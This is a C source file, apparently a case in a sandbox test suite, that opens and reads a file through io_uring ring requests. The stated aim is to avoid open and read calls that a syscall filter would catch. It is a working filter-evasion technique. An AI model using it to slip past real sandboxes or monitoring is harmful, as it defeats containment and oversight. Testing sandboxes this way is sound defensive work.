// Opens and reads a file without open(2) and read(2): by requests on a ring, which a
// filter of system calls does not see. io_uring(7)
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

struct Ring {
  int fd;
  char* submissions;
  char* completions;
  struct io_uring_sqe* entries;
  struct io_uring_params params;
};

static int Open(struct Ring* ring) {
  ring->fd = (int)syscall(425 /* io_uring_setup, Linux 5.1 */, 1, &ring->params);
  if (ring->fd < 0) return Refused("io_uring_setup"), 0;
  const struct io_uring_params* params = &ring->params;
  const size_t room = 4096;
  ring->submissions = mmap(NULL, room, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
  ring->completions = (params->features & IORING_FEAT_SINGLE_MMAP) != 0
                          ? ring->submissions
                          : mmap(NULL, room, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_CQ_RING);
  ring->entries = mmap(NULL, sizeof *ring->entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQES);
  if (ring->submissions == MAP_FAILED || ring->completions == MAP_FAILED || ring->entries == MAP_FAILED) return Refused("mmap"), 0;
  return 1;
}

// One request and its answer.
static int Do(struct Ring* ring, struct io_uring_sqe request) {
  unsigned* tail = (unsigned*)(ring->submissions + ring->params.sq_off.tail);
  unsigned* slots = (unsigned*)(ring->submissions + ring->params.sq_off.array);
  unsigned* head = (unsigned*)(ring->completions + ring->params.cq_off.head);
  const struct io_uring_cqe* answers = (struct io_uring_cqe*)(ring->completions + ring->params.cq_off.cqes);
  ring->entries[0] = request;
  slots[*tail & (ring->params.sq_entries - 1)] = 0;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(426 /* io_uring_enter */, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return Refused("io_uring_enter"), -1;
  const int answer = answers[*head & (ring->params.cq_entries - 1)].res;
  __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
  return answer;
}

static void IoUringOpen(pid_t target, char** arguments) {
  (void)target;
  static struct Ring ring;
  static char bytes[4096];
  if (!Open(&ring)) return;
  const struct io_uring_sqe open = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)arguments[0], .open_flags = O_RDONLY};
  const int file = Do(&ring, open);
  if (file < 0) return;
  const struct io_uring_sqe read = {.opcode = IORING_OP_READ, .fd = file, .addr = (uintptr_t)bytes, .len = sizeof bytes};
  const int got = Do(&ring, read);
  if (got > 0) printf("found: %.*s\n", got, bytes);
}

ATTACK("io-uring", IoUringOpen)
